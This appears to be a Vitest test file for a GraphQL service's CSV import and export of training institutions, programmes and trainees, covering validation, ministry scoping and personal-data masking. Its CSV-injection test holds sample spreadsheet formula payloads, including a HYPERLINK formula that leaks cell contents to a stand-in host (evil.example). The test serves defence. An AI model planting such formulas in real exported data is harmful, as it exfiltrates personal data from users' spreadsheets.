/** CSV import (report, modes, idempotency, ministry border) and export (scope, filter, masking). */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'graphql';
import { parse as parseCsv } from 'csv-parse/sync';
import * as ops from './generated/graphql';
import type { ImportKind, ImportMode } from './generated/graphql';
import { Institution } from '../src/modules/institution/institution.entity';
import { DataSharingClause, Mou, MouParty } from '../src/modules/mou/mou.entity';
import { Program } from '../src/modules/program/program.entity';
import { Trainee } from '../src/modules/trainee/trainee.entity';
import { MouStatus, ResourceType, Sex } from '../src/shared/enums';
import { toGlobalId } from '../src/shared/global-id';
import { expectError, expectOk } from './support/expect';
import * as f from './support/factories';
import { Role, startTestApp, type Client, type TestApp } from './support/test-app';

let t: TestApp;
let editor: Client, viewer: Client, otherEditor: Client;
const IMPORT = ops.ImportCsvDocument;
type Report = {
  total: number;
  created: number;
  updated: number;
  unchanged: number;
  failed: number;
  written: boolean;
  errors: { line: number; field: string; message: string }[];
};
const run = async (c: Client, kind: ImportKind, csv: string, mode?: ImportMode) => c.exec(IMPORT, { kind, csv, mode });
const report = async (c: Client, kind: ImportKind, csv: string, mode?: ImportMode): Promise<Report> => expectOk(await run(c, kind, csv, mode)).importCsv;

const INSTITUTIONS = [
  'externalId,name,type,provinceCode,regency,annualCapacity,sectors,linkAndMatch,pmiPreparation',
  'BLK-001,BLK Malang,TRAINING_CENTRE,35,Kota Malang,480,TOURISM;HEALTH,ya,true',
  'BLK-002,BLK Kediri,TRAINING_CENTRE,35,Kab. Kediri,-5,TOURISM,,',
  'BLK-003,BLK Blitar,TRAINING_CENTRE,99,Kab. Blitar,120,,,',
  'BLK-004,BLK Jember,SCHOOLHOUSE,35,Kab. Jember,200,,,',
  'BLK-001,BLK Malang again,TRAINING_CENTRE,35,Kota Malang,480,,,',
  'BLK-005,BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,360,ICT,tidak,false',
].join('\n');

beforeAll(async () => {
  t = await startTestApp();
  [editor, viewer, otherEditor] = await Promise.all([t.as(Role.EDITOR, 'KEMNAKER'), t.as(Role.VIEWER, 'KEMNAKER'), t.as(Role.EDITOR, 'KEMENPAR')]);
});
afterAll(() => t.close());

const own = async (code: string) => t.em().count(Institution, { ownerMinistry: (await t.ministry(code)).id });

describe('CSV import', () => {
  it('all or nothing by default: one bad row and nothing is written; every problem reported by line and field', async () => {
    const before = await own('KEMNAKER');
    const r = await report(editor, 'INSTITUTIONS', INSTITUTIONS);
    expect(r).toMatchObject({ total: 6, written: false, created: 0, failed: 4 });
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
      [3, 'annualCapacity'],
      [4, 'provinceCode'],
      [5, 'type'],
      [6, 'externalId'],
    ]);
    expect(r.errors[3].message).toBe('repeats line 2');
    expect(await own('KEMNAKER')).toBe(before);
  });

  it("good rows only, as an option: the good rows land in the importer's ministry", async () => {
    const r = await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    expect(r).toMatchObject({ total: 6, created: 2, failed: 4, written: true });
    const rows = await t.em().find(Institution, { externalId: { $in: ['BLK-001', 'BLK-005'] } }, { orderBy: { externalId: 'asc' } });
    expect(rows.map((i) => [i.name, i.ownerMinistry.id, i.linkAndMatch, i.sectors])).toEqual([
      ['BLK Malang', (await t.ministry('KEMNAKER')).id, true, ['TOURISM', 'HEALTH']],
      ['BLK Banyuwangi', (await t.ministry('KEMNAKER')).id, false, ['ICT']],
    ]);
  });

  it('re-importing the same file changes nothing; a changed row is updated', async () => {
    // Its own first import (a no-op when the test above ran): the test stands alone.
    await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    const versions = (await t.em().find(Institution, { externalId: { $in: ['BLK-001', 'BLK-005'] } })).map((i) => i.version);
    const again = await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 2, failed: 4, written: false });
    expect((await t.em().find(Institution, { externalId: { $in: ['BLK-001', 'BLK-005'] } })).map((i) => i.version)).toEqual(versions);
    const changed = await report(
      editor,
      'INSTITUTIONS',
      INSTITUTIONS.replace('BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,360', 'BLK Banyuwangi,VOCATIONAL_SCHOOL,35,Kab. Banyuwangi,400'),
      'GOOD_ROWS_ONLY',
    );
    expect(changed).toMatchObject({ created: 0, updated: 1, unchanged: 1, written: true });
  });

  it('never writes into another ministry, even with the same externalIds', async () => {
    await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    const theirs = await own('KEMNAKER');
    const before = await own('KEMENPAR');
    const r = await report(otherEditor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    expect(r.updated).toBe(0);
    expect(await own('KEMNAKER')).toBe(theirs);
    expect(await own('KEMENPAR')).toBe(before + r.created);
    expect(await t.em().count(Institution, { ownerMinistry: (await t.ministry('KEMENPAR')).id, externalId: { $in: ['BLK-001', 'BLK-005'] } })).toBe(2);
  });

  it("programmes reference their institution by its externalId, in the importer's ministry only", async () => {
    // Both ministries hold a BLK-001 (idempotent imports: no-ops when the tests above ran).
    await report(editor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    await report(otherEditor, 'INSTITUTIONS', INSTITUTIONS, 'GOOD_ROWS_ONLY');
    const csv = [
      'externalId,institutionExternalId,title,sector,targetCountryCodes,capacityPerIntake,startDate,endDate,forHouseholdWork',
      'P-1,BLK-001,Caregiver Jepang,HEALTH,JP;TW,30,2026-01-05,2026-06-30,',
      'P-2,BLK-404,Unknown institution,HEALTH,,10,,,',
      'P-3,BLK-001,Middle East domestic work,HEALTH,SA,10,,,true',
      'P-4,BLK-001,Backwards,HEALTH,,10,2026-06-30,2026-01-05,',
      'P-5,BLK-001,Hotel work in Saudi Arabia,TOURISM,SA,10,,,false',
    ].join('\n');
    const r = await report(editor, 'PROGRAMS', csv, 'GOOD_ROWS_ONLY');
    // The moratorium closes household work only (Kepmenaker 260/2015): hotel work in SA stays open.
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
      [3, 'institutionExternalId'],
      [4, 'targetCountryCodes'],
      [5, 'endDate'],
    ]);
    expect(r.errors[1].message).toContain('260/2015');
    expect(await t.em().count(Program, { externalId: 'P-5' })).toBe(1);
    const p = await t.em().findOneOrFail(Program, { externalId: 'P-1' }, { populate: ['institution'] });
    expect(p.institution.getEntity().externalId).toBe('BLK-001');
    expect(p.ownerMinistry.id).toBe((await t.ministry('KEMNAKER')).id);
    // KEMENPAR has a BLK-001 too, but KEMNAKER's programme hangs under KEMNAKER's.
    expect(p.institution.getEntity().ownerMinistry.id).toBe((await t.ministry('KEMNAKER')).id);
  });

  it('trainees are validated like createTrainee: NIK, age, sex', async () => {
    const good = f.validNik(Sex.FEMALE, '1999-02-03');
    const csv = [
      'externalId,nik,fullName,sex,birthDate,originProvinceCode,email',
      `T-1,${good},Siti Aminah,FEMALE,1999-02-03,35,siti@mail.example`,
      `T-2,${good.slice(0, 10)},Short Nik,FEMALE,1999-02-03,35,`,
      `T-3,${f.validNik(Sex.FEMALE, '1999-02-03')},Wrong Sex,MALE,1999-02-03,35,`,
      `T-4,${f.validNik(Sex.MALE, '2015-01-01')},Too Young,MALE,2015-01-01,35,`,
      `T-5,${f.validNik(Sex.MALE, '1990-01-01')},Bad Mail,MALE,1990-01-01,35,not-mail`,
    ].join('\n');
    const r = await report(editor, 'TRAINEES', csv, 'GOOD_ROWS_ONLY');
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
      [3, 'nik'],
      [4, 'nik'],
      [5, 'birthDate'],
      [6, 'email'],
    ]);
    expect(r.created).toBe(1);
    expect(await t.em().count(Trainee, { externalId: 'T-1' })).toBe(1);
  });

  it('refuses an unreadable file or header with the field named, viewers, and anonymous callers', async () => {
    expectError(await run(editor, 'INSTITUTIONS', 'name,colour\nX,red'), 'BAD_USER_INPUT', 'csv');
    expectError(await run(viewer, 'INSTITUTIONS', INSTITUTIONS), 'FORBIDDEN');
    expectError(await run(t.anonymous(), 'INSTITUTIONS', INSTITUTIONS), 'UNAUTHENTICATED');
  });
});

describe('CSV export', () => {
  it("exports the caller's list with the same filter and scope", async () => {
    const csv = String((expectOk(await viewer.raw('{ institutionsCsv(filter: { search: "Malang" }) }')) as { institutionsCsv: string }).institutionsCsv);
    const rows = parseCsv(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.externalId, r.ownerMinistry, r.sectors])).toEqual([['BLK-001', 'KEMNAKER', 'TOURISM;HEALTH']]);
    const all = parseCsv(String((expectOk(await viewer.raw('{ institutionsCsv }')) as { institutionsCsv: string }).institutionsCsv), {
      columns: true,
    }) as Record<string, string>[];
    expect(all.every((r) => r.ownerMinistry === 'KEMNAKER')).toBe(true);
    expect(all).toHaveLength(await own('KEMNAKER'));
  });

  it('masks personal data exactly as the API does', async () => {
    const em = t.em();
    const [kemnaker, kemenpar] = await Promise.all([t.ministry('KEMNAKER'), t.ministry('KEMENPAR')]);
    const person = f.trainee(em, kemnaker);
    const mou = em.create(Mou, {
      ownerMinistry: kemnaker,
      title: 'Export MoU',
      scope: 'x',
      validFrom: '2025-01-01',
      validUntil: '2030-01-01',
      partyMinistryIds: [kemnaker.id, kemenpar.id],
      recordedStatus: MouStatus.ACTIVE,
    });
    for (const m of [kemnaker, kemenpar]) em.create(MouParty, { mou, ministry: m, signedAt: new Date() });
    em.create(DataSharingClause, {
      mou,
      providerMinistry: kemnaker,
      recipientMinistry: kemenpar,
      resourceTypes: [ResourceType.TRAINEE],
      includesPersonalData: false,
      purpose: 'Export test purpose',
    });
    await em.flush();
    const csv = String(
      (
        expectOk(await otherEditor.raw('query($m: ID) { traineesCsv(filter: { ownerMinistryId: $m }) }', { m: toGlobalId('Ministry', kemnaker.id) })) as {
          traineesCsv: string;
        }
      ).traineesCsv,
    );
    const row = (parseCsv(csv, { columns: true }) as Record<string, string>[]).find((r) => r.fullName === person.fullName)!;
    expect(row.ownerMinistry).toBe('KEMNAKER');
    expect(row.nik).toBe(`${person.nik.slice(0, 4)}**********${person.nik.slice(14)}`);
    expect(row.birthDate).toMatch(/^\d{4}-\*\*-\*\*$/);
    expect(row.fullName).toBe(person.fullName);
  });
});

describe('CSV injection (OWASP)', () => {
  it('cells that a spreadsheet would run as formulas are exported with an apostrophe, and import back unchanged', async () => {
    const names = ['=HYPERLINK("http://evil.example/?leak="&B2&C2,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', 'Plain name'];
    const csv = ['externalId,name,type,provinceCode,annualCapacity', ...names.map((n, i) => `INJ-${i},"${n.replace(/"/g, '""')}",TRAINING_CENTRE,35,10`)].join(
      '\n',
    );
    expect(await report(otherEditor, 'INSTITUTIONS', csv)).toMatchObject({ created: names.length, failed: 0 });
    const exported = String((expectOk(await otherEditor.raw('{ institutionsCsv }')) as { institutionsCsv: string }).institutionsCsv);
    const rows = (parseCsv(exported, { columns: true }) as Record<string, string>[]).filter((r) => r.externalId.startsWith('INJ-'));
    expect(rows).toHaveLength(names.length);
    for (const r of rows) {
      const original = names[Number(r.externalId.slice(4))];
      expect(r.name, original).toBe(/^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
      expect(r.name).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The exported file, imported again, is unchanged: the apostrophes come off.
    const columns = 'externalId,name,type,provinceCode,annualCapacity';
    const again = [
      columns,
      ...rows.map((r) => [r.externalId, r.name, r.type, r.provinceCode, r.annualCapacity].map((v) => `"${v.replace(/"/g, '""')}"`).join(',')),
    ].join('\n');
    expect(await report(otherEditor, 'INSTITUTIONS', again)).toMatchObject({ unchanged: names.length, updated: 0, failed: 0, written: false });
  });
});

describe('import reports every bad line, never one opaque failure', () => {
  it("a NIK repeated in the file, or on record for another trainee, is that line's error", async () => {
    const kemnaker = await t.ministry('KEMNAKER');
    const em = t.em();
    const existing = f.trainee(em, kemnaker, { externalId: 'OLD-1' } as never);
    await em.flush();
    const nik = f.validNik();
    const header = 'externalId,nik,fullName,sex,birthDate,originProvinceCode';
    const csv = [
      header,
      `DUP-1,${nik},Siti Aminah,FEMALE,1998-04-12,35`,
      `DUP-2,${nik},Siti Lain,FEMALE,1998-04-12,35`,
      `DUP-3,${existing.nik},Dewi,FEMALE,${existing.birthDate},35`,
      `DUP-4,${f.validNik()},Ani,FEMALE,1998-04-12,35`,
    ].join('\n');
    const r = await report(editor, 'TRAINEES', csv);
    expect(r.written).toBe(false);
    expect(r.errors).toEqual([
      { line: 3, field: 'nik', message: 'repeats the NIK of line 2' },
      { line: 4, field: 'nik', message: 'is on record already for another trainee of your ministry (externalId OLD-1)' },
    ]);
    const partial = await report(editor, 'TRAINEES', csv, 'GOOD_ROWS_ONLY');
    expect(partial, JSON.stringify(partial)).toMatchObject({ created: 2, failed: 2, written: true });
  });

  it('control characters, blank cells and implausible dates are per-line errors', async () => {
    const csv = [
      'externalId,name,type,provinceCode,annualCapacity',
      'J-1,"BLK\u0007Bell",TRAINING_CENTRE,35,10',
      'J-2,"\u200b\u200b",TRAINING_CENTRE,35,10',
      'J-3,"BLK \u202eevil",TRAINING_CENTRE,35,10',
    ].join('\n');
    const r = await report(editor, 'INSTITUTIONS', csv);
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
      [2, 'name'],
      [3, 'name'],
      [4, 'name'],
    ]);
    const programs = ['externalId,institutionExternalId,title,sector,capacityPerIntake,startDate', 'P-0,BLK-001,Kursus,TOURISM,10,0001-01-01'].join('\n');
    expect((await report(editor, 'PROGRAMS', programs)).errors).toEqual([
      { line: 2, field: 'startDate', message: 'must be a date from 2000-01-01 to 2100-12-31' },
    ]);
  });
});
